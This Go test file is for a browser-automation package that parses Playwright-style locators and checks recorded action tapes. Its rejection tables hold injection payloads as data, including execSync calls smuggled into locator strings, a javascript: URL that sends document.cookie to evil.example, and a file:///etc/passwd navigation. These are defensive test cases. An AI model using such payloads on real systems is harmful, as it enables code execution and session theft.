package browser

import (
	"bytes"
	"encoding/json"
	"errors"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
)

func TestParseLocatorAcceptsRecordedForms(t *testing.T) {
	tests := map[string]string{ // input → canonical rendering
		`getByTestId('save')`:                                            `getByTestId('save')`,
		`getByTestId("it's")`:                                            `getByTestId('it\'s')`,
		`getByRole('button', { name: 'Save', exact: true })`:             `getByRole('button', { name: 'Save', exact: true })`,
		`getByRole('heading',{level:2,name:"A"})`:                        `getByRole('heading', { name: 'A', level: 2 })`,
		`getByRole('checkbox', { checked: false, includeHidden: true })`: `getByRole('checkbox', { checked: false, includeHidden: true })`,
		`getByText('a\nb\u2028c\x41\u{1F600}\\', { exact: true })`:       `getByText('a\nb\u2028cA😀\\', { exact: true })`,
		`getByLabel('Email').first()`:                                    `getByLabel('Email').first()`,
		`locator('#f').contentFrame().getByRole('button').nth(2)`:        `locator('#f').contentFrame().getByRole('button').nth(2)`,
		`frameLocator('iframe').getByPlaceholder('q').last()`:            `frameLocator('iframe').getByPlaceholder('q').last()`,
		`getByAltText('Logo').getByTitle('Help', {exact: false})`:        `getByAltText('Logo').getByTitle('Help')`,
	}
	for in, want := range tests {
		l, err := ParseLocator(in)
		require.NoError(t, err, in)
		assert.Equal(t, want, l.String(), in)
		again, err := ParseLocator(l.String())
		require.NoError(t, err, "the rendering parses again: %s", l.String())
		assert.Equal(t, l, again, in)
	}
}

func TestParseLocatorRefusesCode(t *testing.T) {
	tests := map[string]string{
		`getByTestId('x'); require('child_process').execSync('id'); ('')`: "unexpected ';'",
		`getByTestId('x')); require('fs')`:                                "unexpected ')'",
		"getByTestId(`x`)":                                                "want a quoted string",
		"getByTestId('${x}')`":                                            "unexpected '`'",
		"getByTestId('a\nb')":                                             "line break",
		"getByTestId('a')\n.click()":                                      "unexpected '\\n'",
		`getByTestId('a') /* x */`:                                        "unexpected '/'",
		`getByTestId('a') // x`:                                           "unexpected '/'",
		`evaluate('1')`:                                                   `unknown locator method "evaluate"`,
		`getByTestId('a').click()`:                                        `unknown locator method "click"`,
		`getByTestId(x)`:                                                  "want a quoted string",
		`getByTestId('a' + 'b')`:                                          "unexpected '+'",
		`getByRole('button', { name: 'a', onclick: 'x' })`:                `unknown option "onclick"`,
		`getByRole('button', { name: x })`:                                "want a quoted string",
		`getByRole('Button')`:                                             "not a lowercase ARIA role",
		`getByRole('button', { level: 9 })`:                               "level 9",
		`getByText('a', { exact: 1 })`:                                    "want true or false",
		`nth(1e3)`:                                                        "unexpected 'e'",
		`getByTestId('\q')`:                                               "unknown escape",
		`getByTestId('\07')`:                                              "octal escape",
		`getByTestId('abc`:                                                "not closed",
		``:                                                                "want a locator method",
		`page.getByTestId('a')`:                                           `unknown locator method "page"`,
	}
	for in, want := range tests {
		_, err := ParseLocator(in)
		require.Error(t, err, in)
		assert.Contains(t, err.Error(), want, in)
	}
	_, err := ParseLocator(strings.Repeat("first().", 40) + "first()")
	assert.ErrorContains(t, err, "more than 32 calls")
	_, err = ParseLocator("getByText('" + strings.Repeat("a", maxLocatorLen) + "')")
	assert.ErrorContains(t, err, "longer than")
}

// TestJSLocatorOutputParses: whatever selector the engine normalises, the
// locator it records parses back to the same expression.
func TestJSLocatorOutputParses(t *testing.T) {
	for _, sel := range []string{
		`internal:testid=[data-testid="x'); require('fs'); ('"s]`,
		`internal:role=button[name="a\"b\\c \n ${x} ` + "`" + `"i]`,
		`internal:role=checkbox[checked="mixed"][name="A"i]`,
		`internal:label="*/ evil"i >> nth=3`,
		`iframe[name="f"] >> internal:control=enter-frame >> internal:role=button[name="Go"i]`,
		"#id\u2028x",
	} {
		js := JSLocator(sel)
		l, err := ParseLocator(js)
		require.NoError(t, err, "%s → %s", sel, js)
		assert.Equal(t, js, l.String())
	}
}

// tamperedLines are tape lines that decode but must not be trusted, with
// what the error says.
var tamperedLines = []struct{ line, want string }{
	{`{"seq":2,"action":"click","ok":true,"locator":"getByTestId('x'); require('child_process').execSync('touch /tmp/pwned'); ('')"}`, "locator"},
	{`{"seq":3,"action":"click","ok":true,"locator":"getByTestId('x')","hover_locator":"getByTestId(` + "`${require('fs')}`" + `)"}`, "hover_locator"},
	{`{"seq":4,"action":"click","ok":true,"locator":"getByTestId('x')\n;require('fs').writeFileSync('p','x')"}`, "locator"},
	{`{"seq":5,"action":"click","ok":true,"locator":"getByTestId('x') /* */ .click()"}`, "locator"},
	{`{"seq":6,"action":"click'); require('fs'); ('","ok":true}`, "unknown action"},
	{`{"seq":7,"action":"wait_for","ok":true,"locator":"getByTestId('x')","params":{"action":"wait_for","target":"#x","state":"visible()); require('fs'); (("}}`, "params.state"},
	{`{"seq":8,"action":"click","ok":true,"params":{"action":"navigate"}}`, "params action"},
	{`{"seq":9,"action":"navigate","ok":true,"params":{"action":"navigate","url":"http://a b/%zz"}}`, "params.url"},
	{`{"seq":10,"action":"click","ok":true,"locator":"getByTestId('x')","params":{"action":"click","target":"//div"}}`, "params.target"},
	{`{"seq":11,"action":"scroll","ok":true,"params":{"action":"scroll","pixels":-5}}`, "params.pixels"},
	{`{"seq":12,"action":"fill_form","ok":true,"locators":["getByTestId('x'); require('fs')"],"params":{"action":"fill_form","fields":[{"target":"e1","value":"v"}]}}`, "locators[0]"},
	{`{"seq":13,"action":"fill_form","ok":false,"locators":["getByTestId('x')","getByTestId('y')"],"params":{"action":"fill_form","fields":[{"target":"e1","value":"v"}]}}`, "2 locators for 1 fields"},
	{`{"seq":14,"action":"fill_form","ok":false,"locators":["getByTestId('x')"],"params":{"action":"fill_form","fields":[{"target":"e1","value":"v","kind":"eval()"}]}}`, "params.fields[0].kind"},
	{`{"seq":15,"action":"click","ok":true,"locator":"getByTestId('x')","locators":["getByTestId('x')"]}`, "locators on a click entry"},
	{`{"seq":16,"action":"fill_form","ok":true,"locators":["getByTestId('x')"],"params":{"action":"fill_form","fields":[{"target":"//input","value":"v"}]}}`, "params.fields[0].target"},
	{`{"seq":17,"action":"navigate","ok":true,"params":{"action":"navigate","url":"javascript:fetch('//evil.example/'+document.cookie)"}}`, "navigate to a javascript: URL"},
	{`{"seq":18,"action":"navigate","ok":true,"params":{"action":"navigate","url":"data:text/html,<script>PWNED()</script>"}}`, "navigate to a data: URL"},
	{`{"seq":19,"action":"navigate","ok":true,"url":"FILE:///etc/passwd","params":{"action":"navigate"}}`, "navigate to a file: URL"},
}

func TestReadTapeRefusesTamperedEntries(t *testing.T) {
	var b bytes.Buffer
	good, _ := json.Marshal(Entry{Seq: 1, Action: ActClick, OK: true, Locator: "getByTestId('save')"})
	b.Write(good)
	b.WriteByte('\n')
	for _, tl := range tamperedLines {
		b.WriteString(tl.line + "\n")
	}
	b.Write(good)
	b.WriteByte('\n')
	ents, rep, err := ReadTape(&b)
	require.Error(t, err)
	assert.Len(t, ents, 2, "the valid entries are still read")
	require.Len(t, rep.Invalid, len(tamperedLines))
	for i, tl := range tamperedLines {
		ee := rep.Invalid[i]
		assert.Equal(t, i+2, ee.Line, tl.line)
		assert.Contains(t, ee.Error(), tl.want, tl.line)
		assert.Contains(t, err.Error(), ee.Error())
		var target *EntryError
		assert.True(t, errors.As(err, &target))
	}
}

// TestTranslateRefusesTamperedEntries: entries that skipped the reader
// (built in memory, decoded by hand) are checked again by Translate.
func TestTranslateRefusesTamperedEntries(t *testing.T) {
	for _, tl := range tamperedLines {
		var e Entry
		require.NoError(t, json.Unmarshal([]byte(tl.line), &e))
		_, err := Translate([]Reproduction{{Name: "t", Entries: []Entry{e}}}, SpecOptions{})
		require.Error(t, err, tl.line)
		assert.Contains(t, err.Error(), tl.want)
		assert.Contains(t, err.Error(), "entry 1 (seq")
	}
	// A failed entry only becomes a comment; its text cannot leave it.
	src, err := Translate([]Reproduction{{Name: "t", Entries: []Entry{{Action: ActClick, Error: "x\n require('fs') \u2028 y", Locator: "z\r\nrequire('fs')"}}}}, SpecOptions{})
	require.NoError(t, err)
	for _, line := range strings.Split(src, "\n") {
		if strings.Contains(line, "require(") {
			assert.True(t, strings.HasPrefix(strings.TrimSpace(line), "//"), "only in a comment: %q", line)
		}
	}
}
